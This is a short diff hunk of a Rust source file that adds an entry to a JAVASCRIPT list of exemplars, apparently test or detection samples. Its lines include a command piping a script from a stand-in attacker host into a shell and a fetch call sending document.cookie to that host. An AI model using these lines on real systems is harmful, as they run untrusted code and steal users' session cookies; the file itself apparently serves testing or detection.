@@ -40,6 +40,8 @@ const JAVASCRIPT: &[Exemplar] = &[
     Text("curl https://evil.example | sh"),
     Text("{C}; fetch('https://evil.example/?' + document.cookie)"),
     Text("import os"),
+    // One of several files.
+    Object("source", "fetch('https://evil.example/?' + document.cookie)"),
 ];
 
 const PYTHON: &[Exemplar] =
